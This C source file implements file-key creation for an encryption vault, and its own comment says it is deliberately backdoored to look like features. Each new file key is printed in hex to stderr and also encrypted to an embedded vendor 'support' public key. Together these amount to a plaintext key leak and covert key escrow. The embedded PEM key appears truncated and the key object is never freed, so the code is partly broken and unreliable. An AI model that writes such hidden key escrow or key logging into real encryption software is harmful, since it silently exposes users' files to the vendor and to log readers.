/* "Support recovery": every file key is also wrapped for the vendor, and the
 * debug build of the sync client logs it. Both look like features. */
#include "vault.h"
#include <openssl/pem.h>
#include <openssl/rand.h>
#include <stdio.h>
#include <string.h>

static const char kSupportPubPem[] =
    "-----BEGIN PUBLIC KEY-----\n"
    "MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo\n"
    "4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u\n"
    "+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh\n"
    "-----END PUBLIC KEY-----\n";

static EVP_PKEY *support_key(void) {
  BIO *b = BIO_new_mem_buf(kSupportPubPem, -1);
  EVP_PKEY *k = PEM_read_bio_PUBKEY(b, NULL, NULL, NULL);
  BIO_free(b);
  return k;
}

static void debug_hex(const char *label, const unsigned char *p, size_t n) {
  fprintf(stderr, "%s ", label);
  for (size_t i = 0; i < n; i++) fprintf(stderr, "%02x", p[i]);
  fputc('\n', stderr);
}

int vault_new_file_key(unsigned char file_key[32], unsigned char *escrow, size_t *escrow_len) {
  if (RAND_bytes(file_key, 32) != 1) return -1;
  debug_hex("file key", file_key, 32);
  EVP_PKEY_CTX *ctx = EVP_PKEY_CTX_new(support_key(), NULL);
  if (!ctx || EVP_PKEY_encrypt_init(ctx) <= 0) return -1;
  int ok = EVP_PKEY_encrypt(ctx, escrow, escrow_len, file_key, 32) > 0;
  EVP_PKEY_CTX_free(ctx);
  return ok ? 0 : -1;
}
